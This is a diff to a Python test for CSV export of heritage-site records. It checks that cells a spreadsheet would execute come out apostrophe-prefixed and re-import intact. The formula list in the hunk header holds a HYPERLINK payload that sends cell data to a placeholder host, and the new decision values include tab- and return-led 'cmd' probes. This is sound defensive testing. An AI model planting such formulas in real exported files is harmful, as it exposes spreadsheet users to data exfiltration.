@@ -243,15 +243,19 @@ FORMULAS = ['=HYPERLINK("http://example.invalid/?"&A1;"Đền")', "+84 912 000 0
 
 def test_csv_text_that_a_spreadsheet_would_run_is_marked_as_text_and_reimports_as_it_was(client, committed, conn, tmp_path):
     ids = {
-        committed("relics", "name, kind, rank, geom", ":name, 'temple', 'provincial', ST_SetSRID(ST_MakePoint(106.17, 20.43), 4326)",
-                  {"name": name}): name
-        for name in [*FORMULAS, "Đền = Trần"]
+        committed("relics", "name, kind, rank, decision, geom",
+                  ":name, 'temple', 'provincial', :decision, ST_SetSRID(ST_MakePoint(106.17, 20.43), 4326)",
+                  {"name": name, "decision": decision}): name
+        # Tabs and returns lead only the decisions: names are trimmed on import, so they would not come back.
+        for name, decision in zip([*FORMULAS, "Đền = Trần"], ["\tcmd", "\rcmd", "QĐ 1", None, "- 2"], strict=True)
     }
     _, path = download(client, "/export/relics?format=csv", tmp_path, "relics.csv")
-    rows = {int(r["id"]): r for r in csv.DictReader(io.StringIO(path.read_text(encoding="utf-8-sig")))}
+    with path.open(encoding="utf-8-sig", newline="") as file:  # newline="": a "\r" inside a value stays itself
+        rows = {int(r["id"]): r for r in csv.DictReader(file)}
     for feature_id, name in ids.items():
         assert rows[feature_id]["name"] == (name if name == "Đền = Trần" else "'" + name)
-    assert rows[feature_id]["wkt"].startswith("POINT")
+        assert rows[feature_id]["wkt"].startswith("POINT")
+    assert [rows[i]["decision"] for i in ids] == ["'\tcmd", "'\rcmd", "QĐ 1", "", "'- 2"]
 
     before = conn.execute(text("SELECT max(id) FROM relics")).scalar_one()
     report = do_import(conn, "relics", path)
